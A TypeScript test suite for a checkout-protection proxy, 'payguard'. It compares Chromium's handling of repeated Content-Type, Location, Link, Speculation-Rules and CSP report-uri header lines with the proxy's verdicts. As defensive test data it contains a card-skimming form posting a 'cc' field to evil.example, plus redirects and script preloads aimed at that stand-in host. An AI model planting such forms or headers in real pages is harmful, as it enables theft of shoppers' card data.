/**
 * The repeated-header oracle (issue 17, class 1; docs/headers.md): Chromium combines repeated lines
 * of a header before it reads them, and payguard must judge that combination (or refuse). Each
 * header payguard reads is served from 127.0.0.1 with raw repeated lines and opened in a real
 * Chromium; what the browser does (the requests it makes, what it renders) is compared with
 * payguard's reading of the same lines:
 * - Content-Type and X-Content-Type-Options through a real payguard (the type decides whether a
 *   response is inspected at all, so the proxy's own classification is what is tested);
 * - Location, Link and Speculation-Rules against the verifier's verifyHeaders (pure, as the proxy
 *   calls it), with the browser's requests to foreign hosts recorded and aborted (nothing leaves
 *   the machine).
 * Refresh has its own oracle (oracle-refresh.test.ts, repeated lines included) and Content-Encoding
 * too (test/proxy/oracle-codings.test.ts).
 *
 * A failure prints the seed and path: replay with ORACLE_SEED=<seed> ORACLE_PATH=<path>;
 * ORACLE_RUNS sets the number of generated responses per property.
 */
import fc from 'fast-check';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VerifyRefusal } from '../../src/errors.js';
import type { Policy } from '../../src/policy/model.js';
import { verifyHeaders } from '../../src/verify/index.js';
import { launchChromium } from '../helpers/chromium.js';
import { startStaticServer, startStorefront, type StaticServer, type Storefront } from '../helpers/upstreams.js';
import { startHarness, type Harness } from '../proxy/support.js';
import { testPolicy } from './policy.js';

const RUNS = Number(process.env.ORACLE_RUNS ?? 25);
/** Bounds every wait on the browser. */
const LOAD_TIMEOUT_MS = 10_000;
const EVIL = 'evil.example';

type Lines = readonly (readonly [string, string])[];

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
}, 120_000);
afterAll(async () => {
  await browser?.close();
});

function assertOptions(runs = RUNS): fc.Parameters<unknown> {
  const seed = process.env.ORACLE_SEED === undefined ? undefined : Number(process.env.ORACLE_SEED);
  return { numRuns: runs, ...(seed === undefined ? {} : { seed }), ...(process.env.ORACLE_PATH ? { path: process.env.ORACLE_PATH } : {}) };
}

describe('Content-Type and X-Content-Type-Options, through a real payguard', () => {
  let storefront: Storefront;
  let harness: Harness;
  let count = 0;
  beforeAll(async () => {
    storefront = await startStorefront();
    harness = await startHarness(storefront);
  }, 300_000);
  afterAll(async () => {
    await harness?.stop();
    await storefront?.close();
  });

  /** A foreign card form, after text (no sniffer takes it for HTML) or after a tag (every sniffer does). */
  const BODIES = {
    text: 'hello <form id="evil" action="https://evil.example/collect"><input name="cc"></form>',
    tagged: '<html><body><form id="evil" action="https://evil.example/collect"><input name="cc"></form></body></html>',
    clean: '<html><body><p id="ok">hello</p></body></html>',
  } as const;

  type Rendering = 'evil' | 'html' | 'not-html' | 'error';
  interface Reading {
    readonly status: number | undefined;
    readonly rendering: Rendering;
  }

  async function reading(url: string): Promise<Reading> {
    const context = await browser.newContext({ acceptDownloads: true });
    try {
      const tab = await context.newPage();
      const response = await tab.goto(url, { waitUntil: 'load', timeout: LOAD_TIMEOUT_MS }).catch(() => null);
      if (!response) return { status: undefined, rendering: 'error' };
      // 'html': rendered as an HTML document (an XML one, which payguard refuses on protected routes by design, is 'not-html').
      const rendering = (await tab.evaluate("document.querySelector('form#evil') ? 'evil' : document.contentType === 'text/html' && document.querySelector('p#ok') ? 'html' : 'not-html'")) as Rendering;
      return { status: response.status(), rendering };
    } finally {
      await context.close();
    }
  }

  async function both(lines: Lines, body: keyof typeof BODIES): Promise<{ direct: Reading; proxied: Reading; label: string }> {
    const path = `/checkout/type-${count++}`;
    storefront.page(path, { headers: lines, body: BODIES[body] });
    const direct = await reading(storefront.url + path);
    const proxied = await reading(harness.payguard.publicUrl + path);
    return { direct, proxied, label: `${body} body, lines ${JSON.stringify(lines)}: direct ${JSON.stringify(direct)}, through payguard ${JSON.stringify(proxied)}` };
  }

  /** payguard never lets Chromium render a foreign form: it blocks whatever Chromium would render live. */
  function expectNoLiveForm({ direct, proxied, label }: { direct: Reading; proxied: Reading; label: string }): void {
    expect(proxied.rendering, label).not.toBe('evil');
    if (direct.rendering === 'evil') expect(proxied.status, label).toBe(502);
  }

  it.each([['text/html garbage'], ['text/html (comment)'], ['TEXT/HTML\t; charset=utf-8']])(
    'Chromium reads "%s" as text/html where Fetch finds no type: payguard inspects it (and blocks the form)',
    async (value) => {
      const result = await both([['content-type', value]], 'text');
      expect(result.direct.rendering, result.label).toBe('evil');
      expect(result.proxied.status, result.label).toBe(502);
      // The same spelling on a clean page is served, as HTML.
      const clean = await both([['content-type', value]], 'clean');
      expect(clean.direct.rendering).toBe('html');
      expect(clean.proxied, clean.label).toEqual({ status: 200, rendering: 'html' });
    },
    60_000,
  );

  it('repeated Content-Type lines are one list, the last valid type wins (text/plain then text/html renders HTML)', async () => {
    const htmlLast = await both([['content-type', 'text/plain'], ['content-type', 'text/html']], 'text');
    expect(htmlLast.direct.rendering).toBe('evil');
    expect(htmlLast.proxied.status).toBe(502);
    const plainLast = await both([['content-type', 'text/html'], ['content-type', 'text/plain']], 'text');
    expect(plainLast.direct.rendering).toBe('not-html');
    expectNoLiveForm(plainLast);
    const quoted = await both([['content-type', 'text/html;x="a,text/plain"']], 'text');
    expect(quoted.direct.rendering).toBe('evil');
    expect(quoted.proxied.status).toBe(502);
  }, 60_000);

  const TYPES = [
    'text/html', 'TEXT/HTML', 'text/html garbage', 'text/html (x)', 'text/html;charset=utf-8', 'text/html/x', 'text/plain', 'image/png',
    'application/json', 'application/octet-stream', '*/*', '', 'text/html\u00a0', 'application/xhtml+xml', 'text/plain;x="a,text/html"',
    'text/html;x="a,text/plain"', 'nonsense', 'text/html;', 'unknown/unknown',
  ];
  const NOSNIFF = ['nosniff', 'NOSNIFF', ' nosniff', 'nosniff, foo', 'foo, nosniff', 'nosniff;x', 'foo'];
  const pad = fc.constantFrom('', ' ', '\t');
  const typeLine = fc.array(fc.tuple(pad, fc.constantFrom(...TYPES), pad), { minLength: 1, maxLength: 2 }).map((items) => items.map((p) => p.join('')).join(','));
  const headerLines = fc
    .tuple(fc.array(typeLine, { maxLength: 3 }), fc.array(fc.constantFrom(...NOSNIFF), { maxLength: 2 }))
    .map(([types, nosniff]): Lines => [...types.map((v) => ['content-type', v] as const), ...nosniff.map((v) => ['x-content-type-options', v] as const)]);

  it('generated lines: a form Chromium renders live is never served through payguard, and an HTML page Chromium renders is served', async () => {
    const property = fc.asyncProperty(headerLines, fc.constantFrom('text' as const, 'tagged' as const), async (lines, body) => {
      expectNoLiveForm(await both(lines, body));
      const clean = await both(lines, 'clean');
      // A legitimate page is not broken: what Chromium renders as HTML straight from the storefront,
      // it renders as HTML through payguard.
      if (clean.direct.rendering === 'html') expect(clean.proxied, clean.label).toEqual({ status: 200, rendering: 'html' });
    });
    await fc.assert(property, assertOptions());
  }, 900_000);
});

/**
 * Location, Link and Speculation-Rules: Chromium opens the page straight from a static server. The
 * "foreign" host (evil.example in the spellings below) is a second static server on 127.0.0.1, on
 * another port and so another origin: it records every request Chromium makes to it, redirects
 * included (which Playwright's request interception does not see), and nothing leaves the machine.
 * payguard's reading is verifyHeaders on the same lines: it must either refuse or have a violation
 * for every foreign URL Chromium requested.
 */
describe('Location, Link and Speculation-Rules: every foreign request Chromium makes is a violation payguard reports', () => {
  let server: StaticServer;
  let foreign: StaticServer;
  let context: BrowserContext;
  let policy: Policy;
  let count = 0;

  beforeAll(async () => {
    server = await startStaticServer();
    foreign = await startStaticServer();
    policy = testPolicy({ site: server.origin, routes: [{ path: '/**', mode: 'block' }] });
    context = await browser.newContext();
    // Anything not on the two loopback servers is aborted.
    await context.route('**/*', (route) => {
      const url = new URL(route.request().url());
      if (url.origin === server.origin || url.origin === foreign.origin) return route.continue();
      return route.abort('aborted');
    });
  }, 120_000);
  afterAll(async () => {
    await context?.close();
    await server?.close();
    await foreign?.close();
  });

  /**
   * Each case's foreign URLs live under their own path prefix (/c7/…), so a preload from an
   * earlier case that reaches the foreign server late is never counted against this one.
   */
  interface ForeignCase {
    readonly prefix: string;
    /** The spelling with the foreign server's host and this case's prefix in place of evil.example. */
    served(lines: Lines): Lines;
    /** The foreign URL of a path under this case's prefix. */
    url(path: string): string;
    /** The foreign requests of this case, as URLs. */
    requests(): string[];
  }

  function foreignCase(): ForeignCase {
    const prefix = `/c${count++}`;
    const host = new URL(foreign.origin).host;
    return {
      prefix,
      served: (lines) => lines.map(([n, v]) => [n, v.replaceAll(EVIL, host + prefix)] as const),
      url: (path) => foreign.origin + prefix + path,
      requests: () => [...new Set(foreign.requests.filter((r) => r.path.startsWith(`${prefix}/`)).map((r) => foreign.origin + r.path))],
    };
  }

  /** The foreign URLs Chromium requested for a response with these header lines. */
  async function chromiumRequests(here: ForeignCase, status: number, lines: Lines, awaitPath?: string): Promise<string[]> {
    const path = `/page${here.prefix}`;
    server.set(path, { status, headers: [['content-type', 'text/html; charset=utf-8'], ...lines], body: new TextEncoder().encode('<!DOCTYPE html><title>p</title><p>checkout</p>') });
    const tab = await context.newPage();
    try {
      await tab.goto(server.origin + path, { waitUntil: 'load', timeout: LOAD_TIMEOUT_MS }).catch(() => undefined);
      // Preloads and rule sets are fetched while the page loads; a round trip after 'load' lets the
      // last of them reach the server (no timed wait).
      await tab.evaluate('0').catch(() => undefined);
      // A named case that expects a request waits for it: a preload from a header is not tied to
      // 'load', and on 2 busy cores it can reach the server later (bounded by the poll's timeout).
      if (awaitPath !== undefined) await expect.poll(() => here.requests().includes(here.url(awaitPath)), { timeout: 20_000 }).toBe(true);
      return here.requests();
    } finally {
      await tab.close();
    }
  }

  /** payguard's reading: refused, or the foreign URLs it reports as violations. */
  function payguardReading(lines: Lines): 'refused' | Set<string> {
    try {
      const findings = verifyHeaders(lines, `${server.origin}/page/x`, policy);
      return new Set(findings.filter((f) => !f.allowed && f.url !== undefined).map((f) => new URL(f.url!).href));
    } catch (err) {
      if (err instanceof VerifyRefusal) return 'refused';
      throw err;
    }
  }

  async function expectCovered(status: number, spelling: Lines, awaitPath?: string): Promise<{ chromium: string[]; payguard: 'refused' | Set<string>; foreignUrl: (path: string) => string }> {
    const here = foreignCase();
    const lines = here.served(spelling);
    const chromium = await chromiumRequests(here, status, lines, awaitPath);
    const payguard = payguardReading(lines);
    if (payguard !== 'refused') {
      for (const url of chromium) expect([...payguard], `${url} requested by Chromium for ${JSON.stringify(lines)}`).toContain(url);
    }
    return { chromium, payguard, foreignUrl: here.url };
  }

  it('Location: identical lines are followed, differing lines fail the navigation; payguard judges the first and refuses the second', async () => {
    const same = await expectCovered(302, [['location', 'http://evil.example/a'], ['location', 'http://evil.example/a']]);
    expect(same.chromium).toEqual([same.foreignUrl('/a')]);
    expect(same.payguard).not.toBe('refused');
    // ERR_RESPONSE_HEADERS_MULTIPLE_LOCATION: Chromium follows neither.
    const differing = await expectCovered(302, [['location', 'http://evil.example/a'], ['location', 'http://evil.example/b']]);
    expect(differing.chromium).toEqual([]);
    expect(differing.payguard).toBe('refused');
  }, 60_000);

  it('Link: every line\'s links are read (the lines joined with ", ")', async () => {
    const split = await expectCovered(200, [['link', '<http://evil.example/split.js>; rel=preload'], ['link', '<http://evil.example/other.js>; rel=preload; as=script']], '/other.js');
    expect(split.chromium).toContain(split.foreignUrl('/other.js'));
  }, 60_000);

  it('Speculation-Rules: every line\'s rule sets are fetched', async () => {
    const r = await expectCovered(200, [['speculation-rules', '"/rules.json"'], ['speculation-rules', '"http://evil.example/rules.json"']], '/rules.json');
    expect(r.chromium).toContain(r.foreignUrl('/rules.json'));
  }, 60_000);

  it('report-uri: Chromium posts a violation report to the report-uri of every Content-Security-Policy line and policy; payguard judges each endpoint', async () => {
    // An image the storefront's own policy forbids makes a violation, reported at once to report-uri.
    const body = '<!DOCTYPE html><title>p</title><img src="/blocked.png">';
    const lines: Lines = [
      ['content-security-policy', "img-src 'none'; report-uri http://evil.example/csp-a"],
      ['content-security-policy-report-only', "img-src 'none'; report-uri /local-report, default-src *; img-src 'none'; report-uri http://evil.example/csp-b"],
    ];
    const here = foreignCase();
    const spelled = here.served(lines);
    const path = `/page${here.prefix}`;
    server.set(path, { headers: [['content-type', 'text/html; charset=utf-8'], ...spelled], body: new TextEncoder().encode(body) });
    const reports = (): string[] => here.requests().filter((url) => url.startsWith(here.url('/csp-')));
    const tab = await context.newPage();
    try {
      await tab.goto(server.origin + path, { waitUntil: 'load', timeout: LOAD_TIMEOUT_MS }).catch(() => undefined);
      // Reports go out from the browser process after the violation; wait for them without a timer:
      // poll the foreign server's record until both arrive (the test's own timeout bounds it).
      while (reports().length < 2) await tab.evaluate('new Promise((r) => setTimeout(r, 50))');
    } finally {
      await tab.close();
    }
    const chromium = reports().sort();
    expect(chromium).toEqual([here.url('/csp-a'), here.url('/csp-b')]);
    const payguard = payguardReading(spelled);
    expect(payguard).not.toBe('refused');
    for (const url of chromium) expect([...(payguard as Set<string>)]).toContain(url);
  }, 60_000);

  const LOCATIONS = ['http://evil.example/a', ' http://evil.example/a', 'http://evil.example/a\t', 'http://evil.example/b', '//evil.example/c', '/local'];
  const LINK_PARTS = [
    '<http://evil.example/p.js>; rel=preload; as=script',
    '<http://evil.example/m.js>; rel=modulepreload',
    '<http://evil.example/i.png>; rel=preload; as=image',
    '<http://evil.example/f.json>; rel=prefetch',
    '<http://evil.example/q.js>; rel="preload"',
    'as=script',
    'rel=preload',
    '<http://evil.example/r.js>',
    '',
    '<http://evil.example/s.css>; rel=preload; as=style',
  ];
  const RULE_SETS = ['"http://evil.example/r1.json"', '"/local.json"', '"http://evil.example/r2.json", "/x.json"', '', 'http://evil.example/bare.json'];

  it('generated Location lines: Chromium follows only what payguard judged', async () => {
    const lines = fc.array(fc.constantFrom(...LOCATIONS), { minLength: 1, maxLength: 3 }).map((v): Lines => v.map((l) => ['location', l] as const));
    await fc.assert(fc.asyncProperty(lines, async (l) => void (await expectCovered(302, l))), assertOptions(Math.max(8, Math.floor(RUNS / 2))));
  }, 900_000);

  it('generated Link lines (links split across lines and joined): every foreign preload Chromium starts is a violation payguard reports', async () => {
    const lines = fc.array(fc.array(fc.constantFrom(...LINK_PARTS), { minLength: 1, maxLength: 2 }), { minLength: 1, maxLength: 3 }).map((v): Lines => v.map((parts) => ['link', parts.join(', ')] as const));
    await fc.assert(fc.asyncProperty(lines, async (l) => void (await expectCovered(200, l))), assertOptions());
  }, 900_000);

  it('generated Speculation-Rules lines: every foreign rule set Chromium fetches is a violation payguard reports', async () => {
    const lines = fc.array(fc.constantFrom(...RULE_SETS), { minLength: 1, maxLength: 3 }).map((v): Lines => v.map((l) => ['speculation-rules', l] as const));
    await fc.assert(fc.asyncProperty(lines, async (l) => void (await expectCovered(200, l))), assertOptions(Math.max(8, Math.floor(RUNS / 2))));
  }, 900_000);
});
